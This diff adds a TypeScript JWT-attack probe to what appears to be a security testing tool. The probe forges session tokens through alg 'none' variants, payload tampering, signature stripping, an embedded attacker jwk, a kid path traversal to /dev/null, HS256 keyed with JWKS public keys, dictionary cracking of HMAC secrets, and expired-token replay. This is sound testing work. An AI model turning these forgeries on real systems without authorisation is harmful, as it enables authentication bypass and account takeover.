@@ -1,0 +1,142 @@
+/**
+ * JWT attacks, when the session artifact (bearer token or session cookie) is a JWS: the untouched token
+ * as a control, then forgeries that a correct verifier rejects — alg "none" in four spellings, the
+ * payload changed under the old signature, the signature stripped, HS256 keyed with the target's own
+ * public keys (JWKS), an attacker key embedded in the header (jwk), a kid pointing at /dev/null — an
+ * offline dictionary attack on HMAC keys, and an expired token (forged with a cracked key, or the
+ * real one after it expires when that is soon enough).
+ */
+import { generateKeyPairSync, type JsonWebKey } from 'node:crypto';
+import type { JwtArtifact, JwtExpiry, JwtForgery } from '../../src/artifacts.js';
+import type { Probe } from '../../src/probe.js';
+import type { Credentials } from '../../src/drivers/http.js';
+import type { TargetSession } from '../../src/target/session.js';
+import { hmacMatches, isHmac, parseJws, publicKeyPem, signEs256, signHmac, summarizeClaims, unsigned, type Jws } from '../../src/token/jws.js';
+import { WEAK_JWT_SECRETS } from '../../src/token/jwt-secrets.js';
+
+export const jwtProbe: Probe<'jwt'> = {
+  id: 'jwt',
+  title: 'JWT',
+  async run({ session, established, spec, progress }): Promise<JwtArtifact> {
+    const client = session.newClient('jwt');
+    await session.login(client);
+    const creds = await session.sessionCredentials(client);
+    const scheme = creds.authorization?.match(/^\S+\s+/)?.[0] ?? '';
+    const candidates: Array<[string, string, (token: string) => Credentials]> = [
+      ...(creds.authorization ? [['bearer token', creds.authorization.slice(scheme.length), (t: string) => ({ ...creds, authorization: `${scheme}${t}` })] as [string, string, (t: string) => Credentials]] : []),
+      ...creds.cookies.map((c): [string, string, (t: string) => Credentials] => [
+        c.name,
+        safeDecode(c.value),
+        (t) => ({ ...creds, cookies: creds.cookies.map((o) => (o === c ? { name: o.name, value: t } : o)) }),
+      ]),
+    ];
+    const found = candidates.map(([carrier, token, present]) => ({ carrier, token, present, jws: parseJws(token) })).find((c) => c.jws);
+    if (!found) return { notApplicable: `no session artifact is a JWT (${established.authKind === 'bearer' ? 'the bearer token' : 'the session cookies'} did not parse as a JWS)` };
+    const { carrier, token, present } = found;
+    const jws = found.jws!;
+    progress.step(`jwt: forging tokens against the ${carrier} (alg ${String(jws.header.alg)})`);
+
+    const control = await session.replay(present(token), 'jwt: positive control, the token as issued');
+    const forgeries: JwtForgery[] = [];
+    const attempt = async (attack: string, judgedBy: JwtForgery['judgedBy'], forged: string) => {
+      // A forgery the target accepts is a working credential: mask it like one.
+      session.evidence.redactor.addToken(forged);
+      forgeries.push({ attack, judgedBy, observation: await session.replay(present(forged), `jwt forgery: ${attack}`) });
+    };
+    const { header, payload } = jws;
+    const tampered = { ...payload, sp_tampered: Date.now() };
+    const [h, p] = jws.signingInput.split('.');
+    await attempt('payload changed, signature kept', 'jwt.signature-verified', `${h}.${Buffer.from(JSON.stringify(tampered)).toString('base64url')}.${jws.signature}`);
+    await attempt('signature stripped', 'jwt.signature-verified', `${h}.${p}.`);
+    for (const alg of ['none', 'None', 'NONE', 'nOnE']) await attempt(`alg "${alg}", unsigned`, 'jwt.alg', unsigned({ ...header, alg }, tampered));
+    const attacker = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+    const jwk = attacker.publicKey.export({ format: 'jwk' });
+    await attempt('attacker key embedded in the header (jwk)', 'jwt.alg', signEs256({ ...header, alg: 'ES256', jwk }, tampered, attacker.privateKey));
+    await attempt('kid pointing at /dev/null, HMAC with an empty key', 'jwt.alg', signHmac({ ...header, alg: 'HS256', kid: '../../../../../../../dev/null' }, tampered, ''));
+    const confusion = await confusionForgeries(session, header, tampered, attempt);
+
+    const secret = isHmac(String(header.alg)) ? WEAK_JWT_SECRETS.find((s) => hmacMatches(jws, s)) : undefined;
+    const weakSecret = isHmac(String(header.alg))
+      ? {
+          tested: true,
+          dictionarySize: WEAK_JWT_SECRETS.length,
+          found: secret !== undefined,
+          note: secret !== undefined ? `the HMAC key is a ${secret.length}-character entry of the built-in dictionary` : `none of the ${WEAK_JWT_SECRETS.length} dictionary keys reproduces the signature`,
+        }
+      : { tested: false, dictionarySize: WEAK_JWT_SECRETS.length, found: false, note: `alg ${String(header.alg)} is not an HMAC: there is no shared secret to guess` };
+
+    const expired = await expiredToken(session, jws, token, present, secret, spec.jwt, progress.step);
+    const { alg, typ, kid, ...rest } = header;
+    return {
+      carrier,
+      header: { alg: String(alg), ...(typeof typ === 'string' ? { typ } : {}), ...(typeof kid === 'string' ? { kid } : {}), otherKeys: Object.keys(rest) },
+      claims: summarizeClaims(payload, session.account.username),
+      control,
+      forgeries,
+      confusion,
+      weakSecret,
+      expired,
+    };
+  },
+};
+
+function safeDecode(value: string): string {
+  try {
+    return decodeURIComponent(value);
+  } catch {
+    return value;
+  }
+}
+
+/** HS256 keyed with each public key of the target's JWKS, as PEM (what a confused verifier would use). */
+async function confusionForgeries(
+  session: TargetSession,
+  header: Record<string, unknown>,
+  payload: Record<string, unknown>,
+  attempt: (attack: string, judgedBy: JwtForgery['judgedBy'], forged: string) => Promise<void>,
+): Promise<string | null> {
+  if (!session.target.jwksUrl) return 'no JWKS URL configured (target.jwksUrl), so HS256-with-the-public-key was not tried';
+  const res = await session.replayer.request({ url: session.target.jwksUrl, step: 'jwt: fetch the JWKS', credentials: { cookies: [] } });
+  let keys: JsonWebKey[] = [];
+  try {
+    keys = (JSON.parse(res.body) as { keys?: JsonWebKey[] }).keys ?? [];
+  } catch {
+    return `the JWKS URL answered ${res.status} without a JSON key set`;
+  }
+  const pems = keys.map((k) => ({ kid: typeof k.kid === 'string' ? k.kid : undefined, pem: publicKeyPem(k) })).filter((k) => k.pem);
+  if (pems.length === 0) return `the JWKS holds no usable public key (${keys.length} keys)`;
+  for (const { kid, pem } of pems) {
+    await attempt(`HS256 keyed with the public key${kid ? ` ${kid}` : ''} from the JWKS`, 'jwt.alg', signHmac({ ...header, alg: 'HS256' }, payload, pem!));
+  }
+  return null;
+}
+
+async function expiredToken(
+  session: TargetSession,
+  jws: Jws,
+  token: string,
+  present: (token: string) => Credentials,
+  secret: string | undefined,
+  jwt: { leewayMs: number; expiryWaitMs: number },
+  step: (message: string) => void,
+): Promise<JwtExpiry> {
+  const now = Math.floor(Date.now() / 1000);
+  const leeway = Math.ceil(jwt.leewayMs / 1000);
+  if (secret !== undefined) {
+    const claims = { ...jws.payload, iat: now - 2 * leeway - 7200, exp: now - leeway - 3600 };
+    const forged = signHmac(jws.header, claims, secret, String(jws.header.alg));
+    session.evidence.redactor.addToken(forged);
+    return { method: 'a copy that expired an hour ago (plus leeway), signed with the cracked key', observation: await session.replay(present(forged), 'jwt: expired token (re-signed)') };
+  }
+  const exp = typeof jws.payload.exp === 'number' ? jws.payload.exp : null;
+  if (exp === null) return { notObserved: 'the token has no exp claim' };
+  const waitMs = (exp + leeway - now) * 1000 + 1000;
+  if (waitMs > jwt.expiryWaitMs) {
+    return { notObserved: `the token expires in ${Math.round((exp - now) / 60)} min; waiting for it (plus ${leeway}s leeway) exceeds spec.jwt.expiryWait` };
+  }
+  for (let left = waitMs; left > 0; left -= 5000) {
+    step(`jwt: waiting for the token to expire (${Math.ceil(left / 1000)}s left)`);
+    await new Promise((r) => setTimeout(r, Math.min(5000, left)));
+  }
+  return { method: `the issued token, replayed ${leeway}s after its exp`, observation: await session.replay(present(token), 'jwt: the token after exp + leeway') };
+}
